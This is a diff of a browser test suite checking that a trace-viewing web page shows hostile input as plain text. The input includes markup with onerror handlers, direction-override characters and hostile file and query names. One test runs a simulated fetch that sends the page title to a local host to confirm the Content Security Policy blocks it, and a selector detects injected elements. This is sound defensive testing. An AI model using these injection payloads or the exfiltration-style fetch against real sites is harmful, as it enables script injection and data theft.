@@ -1,4 +1,4 @@
-"""Text that wants to be more than text, wherever it comes in: it is shown, runs nothing, moves nothing."""
+"""Hostile text from any source is shown as text: it runs nothing and moves nothing."""
 
 import base64
 from itertools import pairwise
@@ -27,7 +27,7 @@ MARKUP = (
 )
 HOSTILE = " ".join(MARKUP)
 VISIBLE = HOSTILE.translate(dict.fromkeys(map(ord, "\u202e\u2066\u2069\u200f")))
-"""The same without the marks that a chip stands for."""
+"""The same without the marks that are shown as chips."""
 ODD = """() => [...document.querySelectorAll(
         'img[src=x], svg[onload], [onerror], a[href^=javascript], .sd script')]
     .map(node => node.outerHTML)"""
@@ -38,13 +38,12 @@ CHIPS = "all => all.map(one => one.dataset.mark)"
 
 
 def assert_inert(page: Any) -> None:
-    """Nothing ran, and nothing became an element."""
     assert "pwned" not in page.title()
     assert page.evaluate(ODD) == []
 
 
 def hostile_trace() -> dict[str, Any]:
-    """The trace of a run whose every name and text is hostile."""
+    """Return the trace of a run whose names and texts are all hostile."""
     trace = trace_of(recorded("greedy"))
     trace["config"]["prompt"] = HOSTILE
     for name in ("device", "precision", "started_at"):
@@ -58,7 +57,6 @@ def hostile_trace() -> dict[str, Any]:
 
 
 def look_everywhere(page: Any) -> None:
-    """Tooltip, microscope and text of a finished run."""
     press(page, "to-start", "round-on")
     page.focus("[data-role=rounds]")
     page.keyboard.press("Enter")
@@ -74,40 +72,31 @@ def look_everywhere(page: Any) -> None:
     assert "U+202E" in page.eval_on_selector_all(".sd-token .sd-chip", CHIPS)
 
 
-@pytest.fixture
-def uploaded(open_page: Any) -> Any:
-    """The page with the hostile trace at its end."""
+@pytest.mark.slow
+def test_a_hostile_trace_and_the_page_saved_from_it_are_inert(open_page, patient_page, tmp_path):
     page = open_page()
     file = {"name": f"{PWN}.json", "mimeType": "application/json", "buffer": dump(hostile_trace()).encode()}
     page.set_input_files("[data-role=trace-file]", files=[file])
     page.wait_for_selector(".sd[data-state=playing], .sd[data-state=ended]")
     press(page, "to-end")
     page.wait_for_selector(".sd[data-state=ended]")
-    return page
-
-
-@pytest.mark.slow
-def test_a_hostile_trace_is_only_shown(uploaded):
-    look_everywhere(uploaded)
-
-
-@pytest.mark.slow
-def test_a_page_saved_from_it_is_inert_wherever_it_is_opened(uploaded, patient_page, tmp_path):
-    path = saved(uploaded, "save-page", tmp_path)
+    look_everywhere(page)
+    press(page, "microscope-close")
+    path = saved(page, "save-page", tmp_path)
     assert set(path.name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
     offline = patient_page()
-    told: list[str] = []
-    offline.on("console", lambda message: told.append(message.text))
-    offline.on("dialog", lambda dialog: (told.append("dialog"), dialog.dismiss()))
+    logged: list[str] = []
+    offline.on("console", lambda message: logged.append(message.text))
+    offline.on("dialog", lambda dialog: (logged.append("dialog"), dialog.dismiss()))
     offline.goto(path.as_uri())
     press(offline, "to-end")
     offline.wait_for_selector(".sd[data-state=ended]")
     look_everywhere(offline)
     blocked = offline.evaluate("fetch('https://example.org/').then(() => 'sent', () => 'blocked')")
-    assert blocked == "blocked" and [text for text in told if "Content Security Policy" in text]
+    assert blocked == "blocked" and [text for text in logged if "Content Security Policy" in text]
 
 
-def test_what_a_run_is_asked_and_answers_is_only_shown(open_page, service):
+def test_a_hostile_prompt_and_answer_are_only_shown(open_page, service):
     trace = hostile_trace()
     for event in service.replayed:
         event.get("pieces", {}).update({key: trace["pieces"][key] for key in event.get("pieces", {})})
@@ -122,10 +111,7 @@ NAMES = ("trace", "lesson", "question", "draft", "k", "__proto__")
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize(
-    "names",
-    [" ".join(NAMES), *NAMES],
-)
+@pytest.mark.parametrize("names", [" ".join(NAMES), *NAMES])
 def test_addresses_run_nothing(open_page, names):
     page = open_page(query=urlencode(dict.fromkeys(names.split(), HOSTILE)))
     page.wait_for_timeout(300)
@@ -134,17 +120,6 @@ def test_addresses_run_nothing(open_page, names):
     page.get_by_role("tab", name="Run", exact=True).click()
     run_to_end(page)
     assert_inert(page)
-
-
-@pytest.mark.slow
-def test_a_control_character_is_refused_in_the_page(open_page, service):
-    page = open_page()
-    page.fill("#prompt textarea", "a\x00b\x1b[31m")
-    page.click("#run")
-    page.wait_for_selector(".sd[data-state=error]")
-    told = page.inner_text("[role=alert][data-role=error]")
-    assert told.startswith("The prompt has the control character U+0000") and told.endswith("; remove it.")
-    assert service.requests == []
 
 
 @pytest.mark.slow
@@ -159,10 +134,11 @@ def test_a_game_of_hostile_words_is_only_shown(open_page, service):
     text = page.text_content(".sd-play")
     assert not set(text) & set(OVERRIDE) - set("esrever") and MARKUP[1] in text
     assert "U+202E" in page.eval_on_selector_all(".sd-play .sd-chip", CHIPS)
+    assert f"“onerror={PWN}>” was cut" in page.inner_text(".sd-play [data-role=notice]")
 
 
 @pytest.mark.slow
-def test_a_chart_names_what_would_turn_its_words(open_page):
+def test_a_chart_escapes_markup_and_direction_marks(open_page):
     page = open_page()
     shown = page.evaluate(
         """async (text) => {
@@ -172,17 +148,6 @@ def test_a_chart_names_what_would_turn_its_words(open_page):
         f"<b>{OVERRIDE}\t\r\n",
     )
     assert shown == "&lt;b&gt;U+202EesreverU+2066U+2069U+200F⇥⏎"
-
-
-@pytest.mark.slow
-def test_a_proof_of_a_hostile_prompt_runs_nothing(open_page, service):
-    page = open_page()
-    page.get_by_role("tab", name="Is it the same?").click()
-    page.fill("#proof-prompt :is(textarea, input)", HOSTILE)
-    page.click("#prove-distribution")
-    page.wait_for_selector(".sd-proof [data-role=verdict]:not([hidden])")
-    assert_inert(page)
-    assert service.requests[-1]["prompt"] == HOSTILE
 
 
 @pytest.mark.slow
@@ -241,3 +206,32 @@ def test_a_question_and_answers_of_a_class_are_only_shown(open_page, patient_pag
     for _ in range(2):
         press(teacher, "end")
     teacher.wait_for_selector(".sd-class[data-state=none]")
+
+
+@pytest.mark.slow
+def test_the_page_breaks_no_policy_and_could_not_call_out(open_page, url):
+    page = open_page()
+    logged: list[str] = []
+    page.on("console", lambda message: logged.append(message.text))
+    page.reload()
+    run_to_end(page)
+    for tab in ("Learn", "Play", "Is it the same?", "Lab", "Class", "Run"):
+        page.get_by_role("tab", name=tab).click()
+    page.locator("[data-plot=speedup]").scroll_into_view_if_needed()
+    page.wait_for_selector("[data-plot=speedup].js-plotly-plot")
+    for role, words in (("save-page", "Page saved"), ("copy-image", "Image"), ("save-trace", "Trace saved")):
+        page.click("[data-role=save-menu] summary")
+        page.click(f"[data-role={role}]")
+        page.wait_for_function(
+            f"document.querySelector('[data-role=told]').textContent.startsWith('{words}')"
+        )
+    assert not [text for text in logged if "Content Security Policy" in text]
+    blocked = page.evaluate(
+        """async () => {
+            const seen = new Promise(done => addEventListener("securitypolicyviolation", done));
+            const stolen = await fetch("http://127.0.0.1:9/?" + document.title).catch(() => null);
+            return [stolen, (await seen).effectiveDirective];
+        }"""
+    )
+    assert blocked == [None, "connect-src"]
+    assert page.evaluate("eval('1 + 1')") == 2, "which Gradio's templates need"
